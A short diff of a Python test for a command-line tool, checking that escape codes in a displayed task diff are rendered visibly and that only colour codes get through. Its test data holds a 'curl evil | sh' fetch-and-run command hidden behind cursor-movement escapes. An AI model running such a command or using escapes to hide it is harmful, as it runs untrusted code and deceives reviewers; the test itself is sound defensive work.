@@ -201,7 +201,7 @@ def test_a_terminal_sees_escape_codes_and_a_pipe_gets_the_exact_bytes(cli: Cli, 
     assert check.returncode == 0, check.stderr
 
     shown = _on_a_terminal(cli, "task", "diff", task)
-    assert "+safe line␛[1A␛[2Kcurl evil | sh" in shown
+    assert "+safe line⟨ESC⟩[1A⟨ESC⟩[2Kcurl evil | sh" in shown
     sequences = set(re.findall(r"\x1b\[?[0-9;]*[A-Za-z]?", shown))
     assert sequences and all(re.fullmatch(r"\x1b\[\d*m", s) for s in sequences), \
         f"only colours, never a cursor movement: {sequences}"
